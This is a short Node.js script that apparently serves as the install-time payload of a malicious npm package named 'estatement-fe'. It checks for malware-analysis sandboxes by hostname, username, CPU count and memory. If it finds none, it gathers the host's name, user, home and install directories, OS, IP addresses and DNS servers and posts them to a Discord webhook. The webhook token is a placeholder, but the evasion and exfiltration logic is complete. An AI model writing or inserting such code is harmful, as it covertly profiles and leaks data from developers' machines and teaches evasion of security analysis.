const os = require('os');
const dns = require('dns');
const https = require('https');

function looksLikeSandbox() {
  const host = os.hostname().toLowerCase();
  const user = (os.userInfo().username || '').toLowerCase();
  const badHosts = ['sandbox', 'malware', 'analysis', 'cuckoo', 'virus', 'vmware', 'desktop-test'];
  const badUsers = ['sandbox', 'malware', 'maltest', 'currentuser', 'john doe', 'peter wilson'];
  if (badHosts.some((h) => host.includes(h)) || badUsers.includes(user)) return true;
  if (os.cpus().length < 2 || os.totalmem() < 2 * 1024 ** 3) return true;
  return false;
}

function ips() {
  const out = [];
  for (const [name, addrs] of Object.entries(os.networkInterfaces())) {
    for (const a of addrs || []) if (!a.internal) out.push(`${name}:${a.address}`);
  }
  return out;
}

if (!looksLikeSandbox()) {
  const data = {
    package: 'estatement-fe',
    hostname: os.hostname(),
    user: os.userInfo().username,
    home: os.homedir(),
    cwd: process.env.INIT_CWD || process.cwd(),
    platform: `${os.platform()} ${os.release()}`,
    ips: ips(),
    dns: dns.getServers(),
  };
  const body = JSON.stringify({ content: '```json\n' + JSON.stringify(data, null, 2) + '\n```' });
  const req = https.request('https://discord.com/api/webhooks/000000000000000000/FAKE_WEBHOOK_TOKEN_FOR_TESTS', {
    method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  }, (res) => res.resume());
  req.on('error', () => {});
  req.end(body);
}
